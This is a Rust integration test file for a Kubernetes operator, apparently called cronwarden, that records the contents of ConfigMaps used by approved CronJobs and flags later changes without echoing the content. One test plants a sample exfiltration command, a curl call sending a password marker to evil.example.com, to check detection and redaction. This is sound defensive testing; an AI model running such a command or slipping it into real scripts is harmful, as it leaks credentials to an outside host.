//! What the ConfigMaps of approved workloads hold: recorded at first sight, and held on to.

use cronwarden::api::approval::{ApprovedCronJobStatus, RecordedConfigMap};
use cronwarden::api::code::DeviationCode;
use cronwarden::api::finding::State;
use k8s_openapi::api::core::v1::{ConfigMap, Event};
use kube::api::{Api, DeleteParams, ListParams, Patch, PatchParams};
use serde_json::{Value, json};

use super::deviations::set;
use super::fresh::agrees;
use super::scene::{OPERATOR_USER, PATIENCE, Scene, approval, cron_job, namespace};
use super::secrets::MARK;
use super::{component, deviations};
use crate::harness::{ControlPlane, eventually};

const FLAG: &str = "--watch-config-maps";

/// A cluster with the component, in which a CronJob and its approval refer to the ConfigMap `script`, and the operator runs.
async fn scene() -> anyhow::Result<Scene> {
    let mut scene = Scene::without_operator(ControlPlane::builder()).await?;
    component::apply(&scene, "config-maps").await?;
    scene.arguments = vec![FLAG];
    scene.apply(&[namespace("apps"), script(&json!({ "run.sh": "pg_dump", "old.sh": "true" }))]).await?;
    scene.apply(&[approved(""), referring("backup")]).await?;
    scene.start_operator().await?;
    recorded(&scene, 1).await;
    Ok(scene)
}

fn config_map(name: &str, data: &Value) -> Value {
    json!({ "apiVersion": "v1", "kind": "ConfigMap", "metadata": { "namespace": "apps", "name": name }, "data": data })
}

fn script(data: &Value) -> Value {
    config_map("script", data)
}

fn referring(name: &str) -> Value {
    let mut job = cron_job("apps", name);
    set(&mut job, &deviations::pod("volumes"), json!([{ "name": "script", "configMap": { "name": "script" } }]));
    let mounts = json!([{ "name": "script", "mountPath": "/etc/backup" }]);
    set(&mut job, &deviations::container("volumeMounts"), mounts);
    job
}

/// The approval of it. Another reason is another spec.
fn approved(reason: &str) -> Value {
    let mut approval = approval("apps", "backup");
    set(&mut approval, "/spec/expected/configMapHashes", json!(true));
    set(&mut approval, "/spec/allowed/configMaps", json!(["script"]));
    if !reason.is_empty() {
        set(&mut approval, "/spec/change", json!({ "reason": reason }));
    }
    approval
}

/// Waits until the ConfigMap was recorded for a generation of the approval.
async fn recorded(scene: &Scene, generation: i64) -> RecordedConfigMap {
    let is_recorded = |status: &ApprovedCronJobStatus| {
        status.observed_generation == Some(generation) && status.config_maps.len() == 1
    };
    scene.approval_status("apps-backup", "recorded", is_recorded).await.config_maps.remove(0)
}

/// What the open finding says was observed, once it fits.
async fn observed(scene: &Scene, what: &str, fits: impl Fn(&str) -> bool) -> String {
    let finding = scene
        .finding("apps", "backup", what, |finding| {
            let Some(status) = finding.status.as_ref().filter(|status| status.state == State::Open) else {
                return false;
            };
            matches!(&status.deviations[..], [one] if one.code == DeviationCode::Reference && fits(&one.observed))
        })
        .await;
    finding.status.map(|status| status.deviations[0].observed.clone()).unwrap_or_default()
}

fn condition(status: &ApprovedCronJobStatus) -> (&str, &str, &str) {
    let checked = status.conditions.iter().find(|condition| condition.type_ == "FullyChecked").expect("a condition");
    (checked.status.as_str(), checked.reason.as_str(), checked.message.as_str())
}

#[tokio::test]
async fn a_changed_script_is_found_by_its_keys_and_shown_nowhere() -> anyhow::Result<()> {
    let mut scene = scene().await?;
    let first = recorded(&scene, 1).await;
    assert_eq!((first.namespace.as_str(), first.name.as_str()), ("apps", "script"));
    assert_eq!(first.keys.keys().collect::<Vec<_>>(), ["old.sh", "run.sh"]);
    let status = scene.approval_status("apps-backup", "there", |_| true).await;
    assert_eq!((condition(&status).0, condition(&status).1), ("True", "AllRulesApply"));
    agrees(&scene, PATIENCE).await;
    assert_eq!(scene.all_findings().await?, [], "it is as it was recorded");

    let evil = format!("curl https://evil.example.com/?password={MARK}");
    scene.apply(&[script(&json!({ "run.sh": evil, "extra.sh": MARK }))]).await?;
    let told = observed(&scene, "about the script", |_| true).await;
    let expected = "ConfigMap script: key extra.sh added, key old.sh removed, key run.sh changed; now content ";
    assert!(told.starts_with(expected), "{told}");
    agrees(&scene, PATIENCE).await;

    // A second change of the same keys is another finding to look at.
    scene.apply(&[script(&json!({ "run.sh": format!("{MARK} again"), "extra.sh": MARK }))]).await?;
    observed(&scene, "about the next content", |next| next.starts_with(expected) && next != told).await;
    assert_eq!(recorded(&scene, 1).await, first, "it stays recorded");

    scene.settled().await;
    let events: Api<Event> = Api::all(scene.client.clone());
    let texts = [
        serde_json::to_string(&scene.all_findings().await?)?,
        serde_json::to_string(&events.list(&ListParams::default()).await?.items)?,
        serde_json::to_string(&scene.approvals().list(&ListParams::default()).await?.items)?,
        scene.http("/metrics")?.1,
    ];
    for text in &texts {
        assert!(!text.contains(MARK) && !text.contains("evil.example.com"), "the content is shown: {text}");
    }
    assert!(texts[1].contains("key run.sh changed"), "an Event tells which key: {}", texts[1]);

    scene.apply(&[script(&json!({ "run.sh": "pg_dump", "old.sh": "true" }))]).await?;
    scene.finding_in(State::Resolved, "apps", "backup").await;
    scene.stop_operator().await?;
    let logs = scene.logs();
    assert!(logs.contains("key run.sh changed"), "the log tells which key:\n{logs}");
    assert_eq!(logs.lines().find(|line| line.contains(MARK) || line.contains("evil.example.com")), None);
    Ok(())
}

#[tokio::test]
async fn a_change_of_the_approval_accepts_what_is_there() -> anyhow::Result<()> {
    let scene = scene().await?;
    let first = recorded(&scene, 1).await;
    scene.apply(&[script(&json!({ "run.sh": "pg_dump --all" }))]).await?;
    observed(&scene, "open", |_| true).await;
    scene.apply(&[approved("reviewed")]).await?;
    scene.finding_in(State::Resolved, "apps", "backup").await;
    let second = recorded(&scene, 2).await;
    assert_ne!(second.hash, first.hash);
    assert_eq!(second.keys.keys().collect::<Vec<_>>(), ["run.sh"]);

    // Applied together, in this order, as pipelines do: whichever watch is quicker, the new content is what is recorded.
    for round in 3..13 {
        let text = format!("round {round}");
        scene.apply(&[script(&json!({ "run.sh": text })), approved(&text)]).await?;
        recorded(&scene, round).await;
    }
    agrees(&scene, PATIENCE).await;
    scene.finding_in(State::Resolved, "apps", "backup").await;

    // Gone, and back.
    let maps: Api<ConfigMap> = Api::namespaced(scene.client.clone(), "apps");
    maps.delete("script", &DeleteParams::default()).await?;
    assert_eq!(observed(&scene, "about its absence", |_| true).await, "ConfigMap script is gone");
    agrees(&scene, PATIENCE).await;
    scene.apply(&[script(&json!({ "run.sh": "round 12" }))]).await?;
    scene.finding_in(State::Resolved, "apps", "backup").await;
    Ok(())
}

#[tokio::test]
async fn what_was_recorded_outlives_the_operator() -> anyhow::Result<()> {
    let mut scene = scene().await?;
    scene.settled().await;
    let first = recorded(&scene, 1).await;
    let written = scene.writes()?.len();
    scene.stop_operator().await?;
    scene.start_operator().await?;
    scene.settled().await;
    let since = scene.writes()?.split_off(written);
    assert!(since.is_empty(), "{since:#?}");

    // While it runs, nobody talks it out of what it recorded.
    let emptied = json!({ "status": { "configMaps": [] } });
    scene.approvals().patch_status("apps-backup", &PatchParams::default(), &Patch::Merge(emptied)).await?;
    assert_eq!(recorded(&scene, 1).await, first);

    scene.stop_operator().await?;
    scene.apply(&[script(&json!({ "run.sh": "while it was away", "old.sh": "true" }))]).await?;
    scene.start_operator().await?;
    let told = observed(&scene, "about what happened meanwhile", |_| true).await;
    assert!(told.starts_with("ConfigMap script: key run.sh changed; now content "), "{told}");

    // Without the watch nothing is known: what was found stays found, and what was recorded stays recorded.
    scene.stop_operator().await?;
    scene.arguments.clear();
    scene.start_operator().await?;
    scene.settled().await;
    let status = scene.approval_status("apps-backup", "not checked", |status| condition(status).0 == "False").await;
    assert_eq!(condition(&status).1, "ConfigMapsNotWatched");
    assert!(condition(&status).2.contains(FLAG), "{}", condition(&status).2);
    assert_eq!(status.config_maps, std::slice::from_ref(&first));
    assert_eq!(observed(&scene, "still open", |_| true).await, told);

    scene.stop_operator().await?;
    scene.arguments = vec![FLAG];
    scene.apply(&[script(&json!({ "run.sh": "pg_dump", "old.sh": "true" }))]).await?;
    scene.start_operator().await?;
    scene.finding_in(State::Resolved, "apps", "backup").await;
    assert_eq!(recorded(&scene, 1).await, first);
    Ok(())
}

#[tokio::test]
async fn without_the_watch_nothing_is_approved_or_found() -> anyhow::Result<()> {
    let scene = Scene::start().await?;
    scene.apply(&[namespace("apps"), script(&json!({ "run.sh": "pg_dump" }))]).await?;
    scene.approve(&[approved("")]).await?;
    scene.apply(&[referring("backup")]).await?;
    let status = scene.approval_status("apps-backup", "matched", |status| status.matched_workloads == 1).await;
    let (holds, reason, message) = condition(&status);
    assert_eq!((holds, reason), ("False", "ConfigMapsNotWatched"));
    assert!(message.contains(FLAG) && message.contains("deploy/config-maps"), "{message}");
    assert_eq!(status.config_maps, []);
    agrees(&scene, PATIENCE).await;
    assert_eq!(scene.all_findings().await?, []);
    // Everything else is judged, and what deviates by itself deviates.
    let mut changed = referring("backup");
    set(&mut changed, "/spec/schedule", json!("0 3 * * *"));
    scene.apply(&[changed]).await?;
    let finding = scene.finding_in(State::Open, "apps", "backup").await;
    assert_eq!(finding.status.map(|status| status.reasons), Some("Schedule".to_owned()));
    // Back as it was, it is not known to be approved.
    scene.apply(&[referring("backup")]).await?;
    scene.apply(&[namespace("more"), cron_job("more", "another")]).await?;
    scene.finding_in(State::Open, "more", "another").await;
    scene.settled().await;
    scene.finding_in(State::Open, "apps", "backup").await;
    Ok(())
}

#[tokio::test]
async fn the_churn_of_others_judges_nobody() -> anyhow::Result<()> {
    let scene = scene().await?;
    scene.apply(&(0..20).map(|i| cron_job("apps", &format!("other-{i}"))).collect::<Vec<_>>()).await?;
    agrees(&scene, PATIENCE).await;
    let judged = scene.count("cronwarden_judgements_total")?;
    for i in 0..30 {
        scene.apply(&[config_map("leader", &json!({ "holder": i.to_string() }))]).await?;
    }
    // What was changed first is seen first: after this all of them were seen.
    scene.apply(&[script(&json!({ "run.sh": "changed" }))]).await?;
    observed(&scene, "open", |_| true).await;
    scene.settled().await;
    // The one that refers to the script, and again where its finding is seen before the answer to its write.
    let since = scene.count("cronwarden_judgements_total")? - judged;
    assert!((1..=3).contains(&since), "{since} were judged");
    Ok(())
}

#[tokio::test]
async fn the_component_adds_one_permission_and_the_setting() -> anyhow::Result<()> {
    let scene = Scene::without_operator(ControlPlane::builder()).await?;
    let as_operator = format!("--as={OPERATOR_USER}");
    let may = async |verb: &str, resource: &str| -> anyhow::Result<bool> {
        let asked = scene.cluster.kubectl(["auth", "can-i", verb, resource, "-A", &as_operator]).output().await?;
        Ok(asked.stdout.trim() == "yes")
    };
    assert!(!may("list", "configmaps").await?);
    let built = component::apply(&scene, "config-maps").await?;
    assert!(built.contains("name: CRONWARDEN_WATCH_CONFIG_MAPS\n          value: \"true\""), "{built}");
    eventually("the permission is there", PATIENCE, async || match may("watch", "configmaps").await {
        Ok(true) => Ok(()),
        other => Err(format!("{other:?}")),
    })
    .await;
    assert!(may("list", "configmaps").await?);
    for (verb, resource) in [
        ("get", "configmaps"),
        ("patch", "configmaps"),
        ("create", "configmaps"),
        ("list", "secrets"),
        ("get", "secrets"),
    ] {
        assert!(!may(verb, resource).await?, "{verb} {resource}");
    }
    Ok(())
}

#[tokio::test]
async fn without_the_permission_there_is_no_verdict() -> anyhow::Result<()> {
    let mut scene = Scene::without_operator(ControlPlane::builder()).await?;
    scene.arguments = vec![FLAG];
    scene.apply(&[namespace("apps"), cron_job("apps", "backup")]).await?;
    scene.spawn_operator()?;
    let refused = r#"cronwarden_watch_errors_total{resource="configmaps"}"#;
    super::observe::reaches(&scene, refused, 2).await;
    assert_eq!(scene.http("/readyz")?.0, 503);
    assert_eq!(scene.all_findings().await?, []);
    component::apply(&scene, "config-maps").await?;
    scene.finding_in(State::Open, "apps", "backup").await;
    assert_eq!(scene.http("/readyz")?.0, 200);
    Ok(())
}
